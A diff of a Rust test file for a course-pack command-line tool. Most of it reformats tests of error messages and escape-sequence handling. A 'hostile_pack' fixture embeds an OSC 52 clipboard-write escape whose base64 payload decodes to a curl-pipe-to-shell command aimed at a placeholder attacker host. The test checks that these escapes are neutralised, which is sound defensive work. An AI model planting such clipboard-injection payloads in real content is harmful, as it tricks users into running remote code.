@@ -42,13 +42,21 @@ fn every_broken_pack_is_refused_at_the_place_of_its_problem() {
                 failures.push(format!("{name}: missing `{want}` in\n{shown}"));
             }
         }
-        for jargon in ["panicked", "invalid type", "expected u32", "expected u8", "RUST_BACKTRACE"] {
+        for jargon in [
+            "panicked",
+            "invalid type",
+            "expected u32",
+            "expected u8",
+            "RUST_BACKTRACE",
+        ] {
             if shown.contains(jargon) {
                 failures.push(format!("{name}: says `{jargon}`:\n{shown}"));
             }
         }
         // Every problem line names its file, and a line when the problem is inside one.
-        let problems = shown.lines().filter(|l| l.starts_with("  ") && l.contains(": "));
+        let problems = shown
+            .lines()
+            .filter(|l| l.starts_with("  ") && l.contains(": "));
         for line in problems.filter(|l| !l.trim_start().starts_with('^')) {
             let place = line.trim_start().split(": ").next().unwrap_or("");
             let inside_a_file = !line.contains("is missing: a course pack")
@@ -66,7 +74,8 @@ fn every_broken_pack_is_refused_at_the_place_of_its_problem() {
 #[test]
 fn validate_json_lists_problems_with_line_and_column() {
     let home = tempfile::tempdir().unwrap();
-    let pack = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/broken/many-problems-in-one-file");
+    let pack = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/fixtures/broken/many-problems-in-one-file");
     let out = run(
         backroad(home.path()),
         &["course", "validate", "--json", pack.to_str().unwrap()],
@@ -76,7 +85,12 @@ fn validate_json_lists_problems_with_line_and_column() {
     assert_eq!(v["ok"], false);
     let problems = v["problems"].as_array().unwrap();
     assert_eq!(problems.len(), 4, "{v:#}");
-    assert!(problems.iter().all(|p| p["line"].is_u64() && p["column"].is_u64()), "{v:#}");
+    assert!(
+        problems
+            .iter()
+            .all(|p| p["line"].is_u64() && p["column"].is_u64()),
+        "{v:#}"
+    );
 }
 
 /// A pack whose title, hints, prompt, quiz and lesson carry an OSC 52 clipboard write, a
@@ -90,7 +104,9 @@ fn hostile_pack(dir: &Path) {
     let osc = r"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
     write(
         "content/course.toml",
-        &format!("format_version = 1\ntitle = \"Pack{osc}\"\n[[phase]]\nid = \"01-one\"\ntitle = \"One\\u001b[31m\"\n"),
+        &format!(
+            "format_version = 1\ntitle = \"Pack{osc}\"\n[[phase]]\nid = \"01-one\"\ntitle = \"One\\u001b[31m\"\n"
+        ),
     );
     write(
         "content/01-one/01-first.md",
@@ -98,7 +114,9 @@ fn hostile_pack(dir: &Path) {
     );
     write(
         "exercises/01-one/q.toml",
-        &format!("format_version = 1\nid = \"one.q\"\ntitle = \"Quiz{osc}\"\nphase = \"01-one\"\nlesson = \"01-one/01-first\"\nkind = \"quiz\"\nprompt = \"Answer{osc}\"\nhints = [\"Hint{osc}\", \"NUL\\u0000here\"]\nexplanation = \"Why{osc}\"\n\n[quiz]\nquestion = \"Which{osc}?\"\nchoices = [\"yes{osc}\", \"no\"]\nanswer = \"no\"\n"),
+        &format!(
+            "format_version = 1\nid = \"one.q\"\ntitle = \"Quiz{osc}\"\nphase = \"01-one\"\nlesson = \"01-one/01-first\"\nkind = \"quiz\"\nprompt = \"Answer{osc}\"\nhints = [\"Hint{osc}\", \"NUL\\u0000here\"]\nexplanation = \"Why{osc}\"\n\n[quiz]\nquestion = \"Which{osc}?\"\nchoices = [\"yes{osc}\", \"no\"]\nanswer = \"no\"\n"
+        ),
     );
 }
 
@@ -124,10 +142,21 @@ fn escape_sequences_in_a_pack_never_reach_the_terminal() {
             "{args:?} printed a raw control character:\n{}",
             text(&out)
         );
-        assert!(out.status.code().is_some_and(|c| c <= 1), "{args:?}: {}", text(&out));
+        assert!(
+            out.status.code().is_some_and(|c| c <= 1),
+            "{args:?}: {}",
+            text(&out)
+        );
     }
-    let out = run(backroad_on(home.path(), pack.path()), &["read", "01-one/01-first"]);
-    assert!(stdout(&out).contains("␛]52;c;aGk=␇"), "shown, not hidden: {}", text(&out));
+    let out = run(
+        backroad_on(home.path(), pack.path()),
+        &["read", "01-one/01-first"],
+    );
+    assert!(
+        stdout(&out).contains("␛]52;c;aGk=␇"),
+        "shown, not hidden: {}",
+        text(&out)
+    );
 
     // validate: legal, so exit 0, with a warning naming where each one is.
     let out = run(
